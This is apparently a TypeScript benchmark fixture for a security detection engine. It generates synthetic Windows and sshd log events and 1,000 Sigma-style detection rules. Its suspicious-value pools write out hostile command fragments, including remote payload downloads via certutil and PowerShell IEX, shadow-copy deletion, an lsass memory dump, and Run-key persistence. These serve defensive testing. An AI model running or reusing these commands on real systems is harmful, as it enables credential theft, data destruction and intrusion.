import type { EventFields, EventKind, EventSource, NormalizedEvent } from '../src/engine/events';
import type { RuleSource } from '../src/engine/rules';
import { chooser } from '../test/helpers/seeded-random';

/** What the rules bench evaluates when no corpus is needed: a synthetic event mix and 1,000 generated rules. */

/** Synthetic events in the mix: enough distinct values that per-event caches cannot make the work trivial. */
export const SYNTHETIC_EVENTS = 50_000;
const GENERATED_RULES = 1_000;

/** Share of synthetic events drawn from attack-like values; the rest look like an ordinary workstation's day. */
const SUSPICIOUS_SHARE = 0.05;

const BENIGN_BINARIES = ['svchost.exe', 'explorer.exe', 'chrome.exe', 'msedge.exe', 'outlook.exe', 'winword.exe', 'excel.exe', 'teams.exe',
  'notepad.exe', 'conhost.exe', 'taskhostw.exe', 'msiexec.exe', 'searchindexer.exe', 'backgroundtaskhost.exe', 'runtimebroker.exe',
  'onedrive.exe', 'git.exe', 'code.exe', 'python.exe', 'java.exe', 'dllhost.exe', 'wuauclt.exe', 'compattelrunner.exe', 'smartscreen.exe'];
const SUSPICIOUS_BINARIES = ['powershell.exe', 'cmd.exe', 'rundll32.exe', 'regsvr32.exe', 'mshta.exe', 'certutil.exe', 'bitsadmin.exe', 'wmic.exe',
  'schtasks.exe', 'reg.exe', 'net.exe', 'net1.exe', 'whoami.exe', 'nltest.exe', 'vssadmin.exe', 'wscript.exe', 'cscript.exe', 'msbuild.exe',
  'installutil.exe', 'forfiles.exe', 'sc.exe', 'bcdedit.exe', 'wevtutil.exe', 'procdump.exe', 'psexesvc.exe', 'at.exe'];
const BINARIES = [...BENIGN_BINARIES, ...SUSPICIOUS_BINARIES];
const FOLDERS = ['C:\\Windows\\System32\\', 'C:\\Windows\\SysWOW64\\', 'C:\\Program Files\\App\\', 'C:\\Users\\bob\\AppData\\Local\\Temp\\',
  'C:\\ProgramData\\', 'C:\\Users\\Public\\'];
const BENIGN_ARGUMENTS = ['--type=renderer --lang=en-US --field-trial-handle=1234', '-k netsvcs -p -s Schedule', 'C:\\Users\\bob\\Documents\\report.docx',
  '/n /dde', '-Embedding', '--no-sandbox --disable-gpu', 'status --porcelain', '-m pip install requests', '/UpdateDeploymentProvider', '0x1 0x2'];
const SUSPICIOUS_ARGUMENTS = ['-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', '/c whoami /all', '/c dir C:\\Users', 'delete shadows /all /quiet',
  'javascript:"\\..\\mshtml,RunHTMLApplication"', '-urlcache -split -f http://203.0.113.5/a.exe a.exe', '/transfer job http://x/y C:\\y',
  'process call create calc', '/create /sc minute /tn upd /tr C:\\ProgramData\\u.exe', 'add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x',
  'user /domain', '/domain_trusts', 'cl /e:Security', '-accepteula -ma lsass.exe out.dmp', 'IEX (New-Object Net.WebClient).DownloadString'];
const ARGUMENTS = [...BENIGN_ARGUMENTS, ...SUSPICIOUS_ARGUMENTS];
const REGISTRY_KEYS = ['HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater', 'HKU\\S-1-5-21-1\\Software\\Classes\\ms-settings\\shell\\open\\command',
  'HKLM\\SYSTEM\\CurrentControlSet\\Services\\evil\\ImagePath', 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware',
  'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell', 'HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\VBAWarnings'];
const BENIGN_REGISTRY_KEYS = ['HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx',
  'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto Update\\LastOnlineScanTimeForAppCategory',
  'HKU\\S-1-5-21-1\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\Identities', 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-1'];
const FILE_NAMES = ['invoice.pdf.exe', 'out.dmp', 'payload.ps1', 'a.bat', 'lsass.dmp', 'update.dll', 'x.hta'];
const BENIGN_FILE_NAMES = ['report.docx', 'notes.txt', 'setup.log', '~WRL0001.tmp', 'cache_0001', 'thumbcache_256.db', 'index.dat', 'photo.jpg'];
const USERS = ['bob', 'alice', 'administrator', 'svc_backup', 'WS1$', 'krbtgt', 'guest', 'root'];
const IPS = ['10.0.0.5', '10.0.3.17', '192.168.1.20', '203.0.113.5', '198.51.100.7', '172.16.4.4', '8.8.8.8', 'fe80::1'];
const BENIGN_IPS = ['10.0.0.5', '10.0.3.17', '192.168.1.20', '172.16.4.4'];

/** Values of one synthetic event: attack-like with probability SUSPICIOUS_SHARE, ordinary otherwise. */
interface Pools {
  binaries: readonly string[];
  commandArguments: readonly string[];
  folders: readonly string[];
  files: readonly string[];
  keys: readonly string[];
  lsassShare: number;
  ips: readonly string[];
  ports: readonly number[];
}

const BENIGN: Pools = { binaries: BENIGN_BINARIES, commandArguments: BENIGN_ARGUMENTS, folders: FOLDERS.slice(0, 3), files: BENIGN_FILE_NAMES,
  keys: BENIGN_REGISTRY_KEYS, lsassShare: 0.02, ips: BENIGN_IPS, ports: [80, 443, 443, 443, 53, 445] };
const SUSPICIOUS: Pools = { binaries: SUSPICIOUS_BINARIES, commandArguments: SUSPICIOUS_ARGUMENTS, folders: FOLDERS, files: FILE_NAMES,
  keys: REGISTRY_KEYS, lsassShare: 0.5, ips: IPS, ports: [4444, 8080, 3389, 1337, 443] };

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';

export function syntheticEvent(index: number, choose: ReturnType<typeof chooser>): NormalizedEvent {
  const slot = index % 20;
  const pools = choose.int(1000) < SUSPICIOUS_SHARE * 1000 ? SUSPICIOUS : BENIGN;
  let kind: EventKind = 'process_creation';
  let source: EventSource = 'evtx';
  let fields: EventFields;
  const image = choose.pick(pools.folders) + choose.pick(pools.binaries);
  const common = { Channel: SYSMON, Computer: 'WS1.corp.local', ProcessGuid: `{${index % 997}}`, ProcessId: String(1000 + (index % 5000)), Image: image };
  if (slot < 7) {
    fields = { ...common, EventID: 1, CommandLine: `"${image}" ${choose.pick(pools.commandArguments)}`, ParentImage: choose.pick(pools.folders) + choose.pick(pools.binaries),
      ParentCommandLine: choose.pick(pools.commandArguments), User: `CORP\\${choose.pick(USERS)}`, IntegrityLevel: choose.pick(['Medium', 'High', 'System']),
      OriginalFileName: choose.pick(pools.binaries).toUpperCase(), Hashes: 'SHA256=0123456789ABCDEF,IMPHASH=FEDCBA9876543210', CurrentDirectory: choose.pick(pools.folders) };
  } else if (slot < 10) {
    kind = 'network_connection';
    fields = { ...common, EventID: 3, Protocol: 'tcp', Initiated: 'true', SourceIp: choose.pick(BENIGN_IPS), SourcePort: String(49152 + choose.int(1000)),
      DestinationIp: choose.pick(pools.ips), DestinationPort: String(choose.pick(pools.ports)), User: `CORP\\${choose.pick(USERS)}` };
  } else if (slot < 12) {
    kind = 'file_event';
    fields = { ...common, EventID: 11, TargetFilename: choose.pick(pools.folders) + choose.pick(pools.files) };
  } else if (slot < 14) {
    kind = 'registry_set';
    fields = { ...common, EventID: 13, EventType: 'SetValue', TargetObject: choose.pick(pools.keys), Details: choose.pick(['DWORD (0x00000001)', image, 'Binary Data']) };
  } else if (slot === 14) {
    kind = 'process_access';
    fields = { ...common, EventID: 10, SourceImage: image, TargetImage: choose.int(1000) < pools.lsassShare * 1000 ? 'C:\\Windows\\system32\\lsass.exe' : 'C:\\Windows\\explorer.exe',
      GrantedAccess: choose.pick(['0x1010', '0x1400', '0x1fffff']), CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2bcbe' };
  } else if (slot < 18) {
    kind = 'authentication';
    fields = { Channel: 'Security', EventID: choose.pick([4624, 4625, 4634, 4672, 4648]), TargetUserName: choose.pick(USERS), LogonType: String(choose.pick([2, 3, 10])),
      IpAddress: choose.pick(pools.ips), AuthenticationPackageName: choose.pick(['NTLM', 'Kerberos']), Computer: 'DC1.corp.local' };
  } else if (slot === 18) {
    kind = 'ps_script';
    fields = { Channel: 'Microsoft-Windows-PowerShell/Operational', EventID: 4104, ScriptBlockText: `${choose.pick(pools.commandArguments)}; Write-Output ${index}`, Path: '' };
  } else {
    source = 'text';
    kind = 'authentication';
    fields = { service: 'sshd', user: choose.pick(USERS), src_ip: choose.pick(pools.ips), action: choose.pick(['failure', 'success']) };
  }
  const ts = new Date(Date.UTC(2024, 0, 1) + index * 250).toISOString();
  return { id: `0:${index * 512}`, ts, source, kind, host: 'WS1', user: '', message: '', fields, origin: { file: 'synthetic', offset: index * 512 } };
}

/** 1,000 rules in the shape of SigmaHQ's process, network, file, registry, logon and script-block rules. */
export function generatedRuleSources(): RuleSource[] {
  const choose = chooser(7);
  const words = ARGUMENTS.flatMap((argument) => argument.split(/\s+/)).filter((word) => word.length > 3);
  const quote = (text: string) => `'${text.replace(/'/g, "''")}'`;
  const list = (values: string[], indent: string) => values.map((value) => `${indent}- ${quote(value)}`).join('\n');
  const templates: ((n: number) => string)[] = [
    () => `logsource:\n  category: process_creation\n  product: windows\ndetection:\n  selection_img:\n    - Image|endswith: ${quote('\\' + choose.pick(BINARIES))}\n    - OriginalFileName: ${quote(choose.pick(BINARIES).toUpperCase())}\n  selection_cli:\n    CommandLine|contains:\n${list([choose.pick(words), choose.pick(words), choose.pick(words)], '      ')}\n  filter_parent:\n    ParentImage|endswith: ${quote('\\' + choose.pick(BINARIES))}\n  condition: all of selection_* and not 1 of filter_*`,
    () => `logsource:\n  category: process_creation\n  product: windows\ndetection:\n  selection:\n    ParentImage|endswith:\n${list([`\\${choose.pick(BINARIES)}`, `\\${choose.pick(BINARIES)}`], '      ')}\n    Image|endswith: ${quote('\\' + choose.pick(BINARIES))}\n  condition: selection`,
    () => `logsource:\n  category: process_creation\n  product: windows\ndetection:\n  selection:\n    CommandLine|re|i: ${quote(`${choose.pick(words).replace(/[^A-Za-z0-9]/g, '')}.{0,40}(http|ftp)s?://`)}\n    Image|endswith: ${quote('\\' + choose.pick(BINARIES))}\n  condition: selection`,
    () => `logsource:\n  category: network_connection\n  product: windows\ndetection:\n  selection:\n    Image|endswith: ${quote('\\' + choose.pick(BINARIES))}\n    DestinationPort:\n      - ${choose.pick([4444, 8080, 1337, 5985])}\n      - ${choose.pick([3389, 22, 445])}\n  filter_private:\n    DestinationIp|cidr:\n      - '10.0.0.0/8'\n      - '192.168.0.0/16'\n  condition: selection and not filter_private`,
    () => `logsource:\n  category: file_event\n  product: windows\ndetection:\n  selection:\n    TargetFilename|contains: ${quote(choose.pick(FOLDERS).split('\\').filter(Boolean).pop() ?? 'Temp')}\n    TargetFilename|endswith: ${quote(choose.pick(FILE_NAMES).replace(/^[^.]*/, ''))}\n  condition: selection`,
    () => `logsource:\n  category: registry_set\n  product: windows\ndetection:\n  selection:\n    TargetObject|contains: ${quote(choose.pick(REGISTRY_KEYS).split('\\').slice(2, 5).join('\\'))}\n    Details|contains: ${quote(choose.pick(['\\AppData\\', '\\Temp\\', 'DWORD (0x00000001)', 'powershell']))}\n  condition: selection`,
    () => `logsource:\n  product: windows\n  service: security\ndetection:\n  selection:\n    EventID: ${choose.pick([4624, 4625, 4648, 4672, 4769])}\n    LogonType: ${choose.pick([3, 10])}\n    AuthenticationPackageName: ${choose.pick(['NTLM', 'Kerberos'])}\n  filter_machine:\n    TargetUserName|endswith: '$'\n  condition: selection and not filter_machine`,
    () => `logsource:\n  product: windows\n  category: ps_script\ndetection:\n  selection:\n    ScriptBlockText|contains|all:\n${list([choose.pick(words), choose.pick(words)], '      ')}\n  condition: selection`,
    () => `logsource:\n  category: process_access\n  product: windows\ndetection:\n  selection:\n    TargetImage|endswith: '\\lsass.exe'\n    GrantedAccess:\n      - '0x1010'\n      - ${quote(choose.pick(['0x1410', '0x1fffff', '0x143a']))}\n  filter:\n    SourceImage|startswith: ${quote(choose.pick(FOLDERS))}\n  condition: selection and not filter`,
    () => `logsource:\n  product: linux\n  service: sshd\ndetection:\n  selection:\n    user: ${quote(choose.pick(USERS))}\n    action: failure\n  condition: selection`,
  ];
  return Array.from({ length: GENERATED_RULES }, (_, n) => ({
    file: `generated/${n}.yml`,
    text: `title: Generated rule ${n}\nid: generated-${n}\nstatus: test\nlevel: medium\ntags:\n  - attack.t1059\n${templates[n % templates.length](n)}\n`,
  }));
}
